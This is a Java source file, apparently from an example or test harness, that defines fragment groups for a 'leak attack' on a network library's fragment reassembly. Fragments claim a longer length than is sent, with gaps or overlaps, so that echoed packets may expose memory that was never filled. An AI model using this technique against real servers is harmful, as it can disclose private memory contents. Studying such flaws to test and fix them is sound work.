package dev.entitynet.examples.enetattack;

import java.nio.ByteBuffer;

/**
 * One two-piece fragment group of the leak attack and what an honest echo of it must contain. The
 * first piece always starts at offset 0 with a 4-byte tag (0xE7 then the group number), so an echo
 * names its group; which bytes the pieces cover depends on the shape.
 */
final class FragmentPlan {
    /** First byte of every group's content. */
    static final byte TAG = (byte) 0xE7;

    /** How the two pieces cover the claimed length. */
    enum Shape {
        /** Pieces 0..c/2 and c/2..c of a longer claimed length: the rest is never sent. */
        GAP,
        /** Both pieces at offset 0 with the same bytes: only c/2 bytes of a longer length are sent. */
        OVERLAP,
        /** An honest packet: 16 bytes in two 8-byte pieces that tile it. */
        CONTROL
    }

    final int group;
    final Shape shape;
    final int totalLength;
    final int pieceLength;
    final int secondOffset;
    final byte[] content;
    final boolean[] covered;

    FragmentPlan(int group, Shape shape, int claimedLength, int coveredBytes) {
        this.group = group;
        this.shape = shape;
        this.totalLength = shape == Shape.CONTROL ? 16 : claimedLength;
        this.pieceLength = shape == Shape.CONTROL ? 8 : Math.max(4, coveredBytes / 2);
        this.secondOffset = shape == Shape.OVERLAP ? 0 : pieceLength;
        this.content = new byte[totalLength];
        this.covered = new boolean[totalLength];
        int end = secondOffset + pieceLength;
        for (int i = 0; i < end; i++) {
            content[i] = (byte) (0x80 | (group * 7 + i) & 0x7F);
            covered[i] = true;
        }
        ByteBuffer.wrap(content).put(TAG).put((byte) (group >>> 16)).put((byte) (group >>> 8)).put((byte) group);
    }

    /** Whether the pieces tile the whole claimed length. */
    boolean tiles() {
        return shape == Shape.CONTROL;
    }

    /** The group an echo belongs to, from its tag; -1 when it has none. */
    static int groupOf(ByteBuffer datagram, int at, int length) {
        if (length < 4 || datagram.get(at) != TAG) {
            return -1;
        }
        return (datagram.get(at + 1) & 0xFF) << 16 | (datagram.get(at + 2) & 0xFF) << 8 | datagram.get(at + 3) & 0xFF;
    }
}
